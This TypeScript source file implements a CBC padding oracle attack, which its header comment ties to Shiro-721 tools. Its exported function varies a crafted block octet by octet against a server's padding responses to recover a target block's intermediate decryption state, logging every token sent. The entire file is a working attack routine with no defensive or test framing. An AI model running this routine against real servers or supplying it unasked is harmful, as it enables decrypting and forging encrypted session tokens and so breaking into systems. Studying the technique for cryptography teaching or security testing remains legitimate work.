/**
 * A CBC padding oracle attack (Vaudenay 2002) as Shiro-721 tools run it: a token the server issued, followed by a
 * block the attacker varies and the block to decrypt; the server's answer says whether the padding held. Reads the
 * target block's intermediate state (its decryption before the XOR), octet by octet from the last; every token sent
 * is kept, in order. `limit` stops after that many octets.
 */
export type PaddingOracle = (token: Buffer) => boolean | Promise<boolean>;

const guess = (prefix: Buffer, varied: Buffer, target: Buffer): Buffer =>
  Buffer.concat([prefix, varied, target]);

/** Sends one guess: whether the padding held. */
const ask = async (
  prefix: Buffer,
  varied: Buffer,
  target: Buffer,
  oracle: PaddingOracle,
  sent: Buffer[],
): Promise<boolean> => {
  const token = guess(prefix, varied, target);
  sent.push(token);
  return oracle(token);
};

/**
 * For the last octet: a padding of 0x01 is meant, not a longer one that held by chance, so the octet before it is
 * changed and must not matter.
 */
const lastOctetHolds: typeof ask = async (prefix, varied, target, oracle, sent) => {
  if (!(await ask(prefix, varied, target, oracle, sent))) return false;
  const check = Buffer.from(varied);
  check[14] = (check[14] as number) ^ 1;
  return ask(prefix, check, target, oracle, sent);
};

export const paddingOracleAttack = async (
  prefix: Buffer,
  target: Buffer,
  oracle: PaddingOracle,
  limit = 16,
): Promise<{ intermediate: Buffer; sent: Buffer[] }> => {
  const intermediate = Buffer.alloc(16);
  const sent: Buffer[] = [];
  for (let pad = 1; pad <= limit; pad++) {
    const at = 16 - pad;
    const varied = Buffer.alloc(16);
    for (let k = at + 1; k < 16; k++) varied[k] = (intermediate[k] as number) ^ pad;
    const holds = pad === 1 ? lastOctetHolds : ask;
    let found = -1;
    for (let value = 0; value < 256 && found < 0; value++) {
      varied[at] = value;
      if (await holds(prefix, varied, target, oracle, sent)) found = value;
    }
    if (found < 0) throw new Error(`no padding held at octet ${at}: the server is not a padding oracle`);
    intermediate[at] = found ^ pad;
  }
  return { intermediate, sent };
};
